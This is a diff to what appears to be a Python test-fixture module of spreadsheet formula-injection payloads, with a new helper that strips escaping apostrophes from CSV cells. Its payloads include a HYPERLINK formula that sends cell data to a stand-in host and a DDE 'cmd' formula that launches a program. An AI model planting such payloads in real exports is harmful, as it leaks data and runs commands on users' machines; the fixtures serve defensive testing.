@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 FORMULAS = {
     "equals": '=HYPERLINK("http://example.invalid/?"&A1,"kind-equals")',
     "plus": "+cmd|' /C calc'!A0 kind-plus",
@@ -12,6 +14,7 @@ FORMULAS = {
     "newline": "\n=1+1 kind-newline",
     "wide": "＝1+1 kind-wide",
     "apostrophe": "'=1+1 kind-apostrophe",
+    "behind": "kind-behind;=1+1\n=2+2\t=3+3;\"=4+4",
 }
 MARKUP = {
     "html": (
@@ -50,3 +53,8 @@ STEERING = {
 }
 EVERY = FORMULAS | MARKUP | STEERING
 TEXTS = tuple(EVERY.values())
+
+
+def given_back(cell: str) -> str:
+    """Return a cell of a .csv with one apostrophe taken away at its beginning and where another could begin in it."""
+    return re.sub("(?<=[\n\r\t;])'", "", cell.removeprefix("'"))
